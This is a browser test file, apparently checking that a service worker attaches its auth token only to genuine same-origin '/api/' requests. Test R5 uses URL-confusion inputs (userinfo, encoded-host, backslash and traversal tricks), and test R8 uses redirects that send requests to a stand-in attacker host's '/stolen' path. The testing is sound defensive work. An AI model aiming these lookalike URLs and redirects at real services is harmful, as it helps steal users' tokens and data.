import { signIn } from '../support/app.ts';
import { ACME } from '../support/organizations.ts';
import { expect, test } from '../support/wire-test.ts';

// Without the page's own policy, which would stop all of it: the worker alone is tried here.
test.use({ weakness: 'policy' });

test('R5: hosts and paths that look like the API get no token', async ({
  page,
  server,
  evil,
  secrets,
  wire,
}) => {
  await signIn(page, ACME);
  const evilHost = new URL(evil.origin).host;
  const urls = [
    `${evil.origin}/api/me`,
    `http://localhost:${server.port}@${evilHost}/api/user-info`,
    `http://localhost%3A${server.port}.${evilHost}/api/me`,
    `//${evilHost}/api/scheme-relative`,
    `/\\${evilHost}/api/backslash`,
    `http://evil.localhost:${new URL(evil.origin).port}/api/subdomain`,
    `http://127.0.0.1:${server.port}/api/me`,
    '/apix/me',
    '/API/me',
    '/api%2fme',
    '/%61pi/me',
    '/api/../apix/me',
    '/acme/api/me',
    '//api/me',
  ];

  await page.evaluate(async (all) => {
    const headers = { 'X-Org-Slug': 'acme' };
    for (const url of all) {
      for (const init of [{}, { method: 'POST', body: 'x' }, { mode: 'no-cors' as const }, { headers }])
        await fetch(url, init).catch(() => {});
    }
  }, urls);

  const isApi = ({ origin, pathname }: URL): boolean =>
    origin === server.origin && pathname.startsWith('/api/');
  const authorized = wire.requests.filter(({ token }) => token !== null);
  expect(authorized.length).toBeGreaterThan(0);
  expect(authorized.filter(({ url }) => !isApi(url))).toEqual([]);
  expect(wire.requests.map(({ url }) => url.pathname)).toContain('/apix/me');
  expect(evil.paths).toContain('/api/me');
  expect(evil.paths).toContain('/api/backslash');
  expect((await secrets.values()).size).toBeGreaterThan(2);
  expect(await secrets.find(JSON.stringify(evil.log))).toBeUndefined();
});

test('R8: an API that redirects to another origin takes neither the token nor the body there', async ({
  page,
  evil,
  secrets,
  server,
}) => {
  await signIn(page, ACME);
  const outcomes = await page.evaluate(
    async ([target, apis]) => {
      const all: string[] = [];
      for (const api of apis) {
        for (const status of [301, 302, 303, 307, 308]) {
          for (const method of ['GET', 'POST', 'PUT']) {
            for (const redirect of ['follow', 'manual'] as const) {
              const url = `${api}/api/redirect?status=${status}&to=${encodeURIComponent(`${target}/stolen`)}`;
              const body = method === 'GET' ? null : 'what a person wrote';
              const response = await fetch(url, { method, redirect, body }).catch(() => undefined);
              all.push(response?.type ?? 'network error');
            }
          }
        }
      }
      return all;
    },
    [evil.origin, ['', server.otherApiOrigin]] as const,
  );

  expect(outcomes).toHaveLength(60);
  expect(new Set(outcomes)).toEqual(new Set(['network error']));
  expect(evil.log).toEqual([]);

  // The way there is open: what no worker sees does arrive.
  await page.evaluate((target) => fetch(`${target}/canary`), evil.origin);
  expect(evil.paths).toContain('/canary');
  expect(await secrets.find(JSON.stringify(evil.log))).toBeUndefined();
});
